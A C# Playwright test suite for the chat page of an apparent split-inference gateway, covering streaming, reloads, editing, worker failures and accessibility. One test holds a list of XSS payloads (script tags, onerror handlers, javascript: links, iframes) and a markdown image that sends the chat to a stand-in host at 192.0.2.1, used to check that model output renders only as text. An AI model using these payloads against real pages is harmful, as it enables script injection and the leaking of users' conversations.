using System.Net;
using System.Text.RegularExpressions;
using Cleave.Gateway.Tests.Clients;
using Cleave.Inference;
using Cleave.Inference.Decoding;
using Cleave.Protocol.Wan;
using Microsoft.Playwright;

namespace Cleave.Gateway.Tests.Page;

/// <summary>The chat page in a real browser.</summary>
public sealed class PageTests(Browser browser) : IClassFixture<Browser>
{
    [Fact]
    public async Task A_conversation_streams_and_survives_a_reload()
    {
        ClientPrograms.RequireChromium();
        await using WorkerProcess worker = await WorkerProcess.StartAsync();
        await using WanEmulator wan = WanEmulator.Start(new IPEndPoint(IPAddress.Loopback, 0), new IPEndPoint(IPAddress.Loopback, worker.Link.Port), new WanOptions { Rtt = TimeSpan.FromMilliseconds(60) });
        using var draft = DraftModel.Load(DemoModel.DraftPath, DemoModel.Tokenizer);
        await using TestGateway gateway = await TestGateway.StartAsync(worker.Link.At("127.0.0.1", wan.ListenEndPoint.Port), TimeSpan.FromSeconds(60), draft);
        await using Visit visit = await browser.VisitAsync(gateway.Address);
        IPage page = visit.Page;
        await page.GetByRole(AriaRole.Button, new() { Name = "Settings" }).ClickAsync();
        await page.GetByLabel("Temperature").FillAsync("0");
        await page.GetByLabel("Longest answer").FillAsync("60");
        await page.GetByRole(AriaRole.Button, new() { Name = "Done" }).ClickAsync();
        await page.GetByLabel("Message", new() { Exact = true }).FillAsync("Name five musical instruments.");
        await page.Keyboard.PressAsync("Enter");
        ILocator answer = page.Locator(".message.assistant .body");
        await Assertions.Expect(answer).Not.ToBeEmptyAsync();
        await Assertions.Expect(page.Locator("#stop")).ToBeHiddenAsync(new() { Timeout = 60_000 });
        string text = await answer.InnerTextAsync();
        Assert.True(text.Length > 10);

        // The panel shows the cut, what crossed and what it took.
        await Assertions.Expect(page.Locator("#split svg")).ToHaveAttributeAsync("aria-label", new Regex("layers 0–1 on this machine, layers 2–9 on the worker"));
        await Assertions.Expect(page.Locator("#stats")).ToContainTextAsync("tok/s");
        await Assertions.Expect(page.Locator("#stats")).ToContainTextAsync("Round trips");
        await Assertions.Expect(page.Locator("#chart-text")).ToContainTextAsync("replies brought");
        await Assertions.Expect(page.Locator("#privacy")).ToContainTextAsync("can reconstruct this conversation");

        // A second conversation, and back.
        await page.GetByRole(AriaRole.Button, new() { Name = "New conversation" }).First.ClickAsync();
        await page.GetByLabel("Message", new() { Exact = true }).FillAsync("Say hello.");
        await page.GetByLabel("Send").ClickAsync();
        await Assertions.Expect(page.Locator("#stop")).ToBeHiddenAsync(new() { Timeout = 60_000 });
        await page.Locator(".conversations .open", new() { HasText = "musical" }).ClickAsync();
        Assert.Equal(text, await answer.InnerTextAsync());

        // A reload keeps both.
        await page.ReloadAsync();
        await Assertions.Expect(page.Locator(".conversations li")).ToHaveCountAsync(2);
        await page.Locator(".conversations .open", new() { HasText = "musical" }).ClickAsync();
        Assert.Equal(text, await answer.InnerTextAsync());

        // Guessed tokens are coloured on request, and the text stays the same.
        await page.GetByRole(AriaRole.Checkbox).CheckAsync();
        Assert.True(await answer.Locator(".drafted").CountAsync() > 0);
        Assert.True(await answer.Locator(".fresh").CountAsync() > 0);
        Assert.Equal(text, await answer.InnerTextAsync());
        visit.AssertQuiet();
    }

    [Fact]
    public async Task Stop_edit_and_regenerate()
    {
        await using TestGateway gateway = await TestGateway.StartAsync(Cut.Default, sessions: 4);
        await using Visit visit = await browser.VisitAsync(gateway.Address);
        IPage page = visit.Page;
        await page.GetByRole(AriaRole.Button, new() { Name = "Settings" }).ClickAsync();
        await page.GetByLabel("Longest answer").FillAsync("1500");
        await page.GetByRole(AriaRole.Button, new() { Name = "Done" }).ClickAsync();
        await page.GetByLabel("Message", new() { Exact = true }).FillAsync("Tell me a very long story about a ship, with many chapters.");
        await page.Keyboard.PressAsync("Enter");
        ILocator answer = page.Locator(".message.assistant .body");
        await Assertions.Expect(answer).Not.ToBeEmptyAsync();
        await Assertions.Expect(answer).ToContainTextAsync(new Regex("\\w{3}"), new() { Timeout = 60_000 });
        await page.Keyboard.PressAsync("Escape");
        await Assertions.Expect(page.Locator("#stop")).ToBeHiddenAsync();
        await Assertions.Expect(page.Locator(".message")).ToHaveCountAsync(2);

        await page.GetByRole(AriaRole.Button, new() { Name = "Edit" }).ClickAsync();
        await page.GetByLabel("Edit your message").FillAsync("Say hello.");
        await page.Keyboard.PressAsync("Enter");
        await Assertions.Expect(page.Locator(".message.user .plain")).ToHaveTextAsync("Say hello.");
        await Assertions.Expect(page.Locator(".message")).ToHaveCountAsync(2);
        await Assertions.Expect(page.Locator("#stop")).ToBeHiddenAsync(new() { Timeout = 60_000 });

        await page.GetByRole(AriaRole.Button, new() { Name = "Regenerate" }).ClickAsync();
        await Assertions.Expect(page.Locator("#stop")).ToBeHiddenAsync(new() { Timeout = 60_000 });
        await Assertions.Expect(page.Locator(".message")).ToHaveCountAsync(2);
        await Assertions.Expect(answer).Not.ToBeEmptyAsync();
        visit.AssertQuiet();
    }

    [Fact]
    public async Task What_the_model_says_stays_text()
    {
        string[] hostile =
        [
            "<script>window.hacked=1</script><img src=x onerror=\"window.hacked=1\"><svg onload=window.hacked=1>",
            "[click](javascript:window.hacked=1) ![x](http://192.0.2.1/leak?chat=secret) <http://192.0.2.1/auto>",
            "[![x](http://192.0.2.1/a)](http://192.0.2.1/b \"t\") <a href=\"http://192.0.2.1/c\">c</a> http://192.0.2.1/bare",
            "<iframe src=\"http://192.0.2.1\"></iframe><style>body{background:url(http://192.0.2.1/d)}</style><link rel=prefetch href=http://192.0.2.1/e>",
            "```html\n<script>window.hacked=1</script>\n```\n\n| a | b |\n|---|---|\n| <b>x</b> | [y](data:text/html,<script>window.hacked=1</script>) |",
            "> " + new string('>', 300) + " deep\n\n" + string.Concat(Enumerable.Repeat("- ", 200)) + "list\n\n" + new string('*', 5000) + new string('[', 3000) + new string('`', 2999),
            "&lt;script&gt; &#60;b&#62; </div></body></html><!-- <form action=http://192.0.2.1><input autofocus onfocus=window.hacked=1>",
        ];
        await using TestGateway gateway = await TestGateway.StartAsync(null, sessions: 1);
        await using Visit visit = await browser.VisitAsync(gateway.Address);
        IPage page = visit.Page;

        // The server's own bytes, but for the words: events as the gateway sends them, with what a model might say.
        await page.RouteAsync("**/v1/chat/completions", async route =>
        {
            var body = new System.Text.StringBuilder();
            foreach (string text in hostile)
            {
                foreach (string piece in (string[])[text, "\n\n"])
                {
                    string content = System.Text.Json.JsonSerializer.Serialize(piece);
                    body.Append($"data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":{content}}},\"finish_reason\":null}}],\"cleave\":{{\"tokens\":[{{\"text\":{content},\"drafted\":true}}]}}}}\n\n");
                }
            }

            body.Append("data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n");
            await route.FulfillAsync(new() { ContentType = "text/event-stream", Body = body.ToString() });
        });
        foreach (bool coloured in (bool[])[false, true])
        {
            if (coloured)
            {
                await page.GetByRole(AriaRole.Checkbox).CheckAsync();
            }

            await page.GetByLabel("Message", new() { Exact = true }).FillAsync("<img src=x onerror=window.hacked=1>");
            await page.Keyboard.PressAsync("Enter");
            await Assertions.Expect(page.Locator("#stop")).ToBeHiddenAsync(new() { Timeout = 30_000 });
            ILocator answer = page.Locator(".message.assistant .body").Last;
            await Assertions.Expect(answer).ToContainTextAsync("<script>window.hacked=1</script><img src=x");
            await Assertions.Expect(answer).ToContainTextAsync("http://192.0.2.1/leak?chat=secret");
            Assert.Equal(0, await page.Locator(".message .body :is(script, img, iframe, a, form, style, link, object, embed, input, svg)").CountAsync());
        }

        Assert.True(await page.EvaluateAsync<bool>("window.hacked === undefined"));
        await page.ReloadAsync();
        await Assertions.Expect(page.Locator(".message.assistant .body").First).ToContainTextAsync("<script>");
        Assert.True(await page.EvaluateAsync<bool>("window.hacked === undefined"));
        visit.AssertQuiet();
    }

    [Fact]
    public async Task A_killed_worker_is_told_and_the_answer_goes_on_when_it_is_back()
    {
        await using WorkerProcess worker = await WorkerProcess.StartAsync();
        await using TestGateway gateway = await TestGateway.StartAsync(worker.Link, patience: TimeSpan.FromSeconds(60));
        await using Visit visit = await browser.VisitAsync(gateway.Address);
        IPage page = visit.Page;
        await page.GetByRole(AriaRole.Button, new() { Name = "Settings" }).ClickAsync();
        await page.GetByLabel("Longest answer").FillAsync("400");
        await page.GetByLabel("Temperature").FillAsync("0.7");
        await page.GetByLabel("Seed").FillAsync("5");
        await page.GetByRole(AriaRole.Button, new() { Name = "Done" }).ClickAsync();
        await page.GetByLabel("Message", new() { Exact = true }).FillAsync("Tell me a long story about a ship.");
        await page.Keyboard.PressAsync("Enter");
        ILocator answer = page.Locator(".message.assistant .body");
        await Assertions.Expect(answer).ToContainTextAsync(new Regex("\\w{3}"), new() { Timeout = 60_000 });
        worker.Kill();
        await Assertions.Expect(page.Locator("#banner")).ToContainTextAsync("The worker is lost", new() { Timeout = 30_000 });
        await worker.RestartAsync();
        await Assertions.Expect(page.Locator("#banner")).ToBeHiddenAsync(new() { Timeout = 60_000 });
        await Assertions.Expect(page.Locator("#stop")).ToBeHiddenAsync(new() { Timeout = 120_000 });
        await Assertions.Expect(page.Locator(".notice:not(.calm)")).ToHaveCountAsync(0);

        // The answer is the one an undisturbed run gives.
        string stored = await page.EvaluateAsync<string>("() => { for (const [k, v] of Object.entries(localStorage)) if (k.startsWith('cleave.conversation.')) return JSON.parse(v).messages.at(-1).content; }");
        string undisturbed = Api.Call.Text(await Api.Call.OkAsync(gateway.Client, Api.Call.Chat("Tell me a long story about a ship.", "\"temperature\":0.7,\"seed\":5,\"max_tokens\":400")));
        Assert.Equal(undisturbed, stored);
    }

    [Fact]
    public async Task A_worker_that_stays_away_ends_the_answer_with_words_and_the_next_try_works()
    {
        await using WorkerProcess worker = await WorkerProcess.StartAsync();
        await using TestGateway gateway = await TestGateway.StartAsync(worker.Link, patience: TimeSpan.FromSeconds(1));
        await using Visit visit = await browser.VisitAsync(gateway.Address);
        IPage page = visit.Page;
        await page.GetByLabel("Message", new() { Exact = true }).FillAsync("Tell me a long story about a ship.");
        await page.Keyboard.PressAsync("Enter");
        await Assertions.Expect(page.Locator(".message.assistant .body")).ToContainTextAsync(new Regex("\\w{3}"), new() { Timeout = 60_000 });
        worker.Kill();
        await Assertions.Expect(page.Locator(".notice")).ToContainTextAsync("The worker is lost", new() { Timeout = 60_000 });
        Assert.Equal(503, (int)(await gateway.Client.GetAsync("/health", TestContext.Current.CancellationToken)).StatusCode);
        await worker.RestartAsync();
        await Assertions.Expect(page.Locator("#banner")).ToBeHiddenAsync(new() { Timeout = 60_000 });
        await page.GetByRole(AriaRole.Button, new() { Name = "Try again" }).ClickAsync();
        await Assertions.Expect(page.Locator("#stop")).ToBeHiddenAsync(new() { Timeout = 120_000 });
        await Assertions.Expect(page.Locator(".message.assistant .body")).ToContainTextAsync(new Regex("\\w{3}"));
        await Assertions.Expect(page.Locator(".notice:not(.calm)")).ToHaveCountAsync(0);
    }

    [Fact]
    public async Task It_works_on_a_phone_and_by_keyboard_alone()
    {
        await using TestGateway gateway = await TestGateway.StartAsync(Cut.Default, sessions: 2);
        await using Visit visit = await browser.VisitAsync(gateway.Address, 360, 740);
        IPage page = visit.Page;
        await Assertions.Expect(page.Locator("#model")).ToBeHiddenAsync();
        Assert.True(await page.EvaluateAsync<bool>("document.documentElement.scrollWidth <= innerWidth"));
        await Assertions.Expect(page.Locator("#panel")).Not.ToBeVisibleAsync();

        // Tab to the first control, Enter to send, the panel and the list by their buttons, Escape out of them.
        await page.Keyboard.PressAsync("Tab");
        Assert.Equal("Skip to the message field", await page.EvaluateAsync<string>("document.activeElement.textContent"));
        await page.Keyboard.PressAsync("Enter");
        await page.GetByLabel("Message", new() { Exact = true }).FocusAsync();
        await page.Keyboard.TypeAsync("Say hello.");
        await page.Keyboard.PressAsync("Enter");
        await Assertions.Expect(page.Locator("#stop")).ToBeHiddenAsync(new() { Timeout = 60_000 });
        await Assertions.Expect(page.Locator("#announce")).Not.ToBeEmptyAsync();
        await page.GetByLabel("Show or hide the split").FocusAsync();
        await page.Keyboard.PressAsync("Enter");
        await Assertions.Expect(page.Locator("#split svg")).ToBeVisibleAsync();
        await page.Keyboard.PressAsync("Escape");
        await Assertions.Expect(page.Locator("#panel")).Not.ToBeVisibleAsync();
        await page.GetByLabel("Conversations", new() { Exact = true }).And(page.GetByRole(AriaRole.Button)).FocusAsync();
        await page.Keyboard.PressAsync("Enter");
        Assert.Contains("New conversation", await page.EvaluateAsync<string>("document.activeElement.textContent"), StringComparison.Ordinal);
        await page.Keyboard.PressAsync("Escape");

        // Every control has a name.
        Assert.Equal("", await page.EvaluateAsync<string>("""
            () => [...document.querySelectorAll('button, input, textarea, [role=img]')]
              .filter(e => !(e.textContent.trim() || e.getAttribute('aria-label') || e.getAttribute('aria-labelledby') || e.labels?.length))
              .map(e => e.outerHTML).join()
            """));
        visit.AssertQuiet();
    }
}
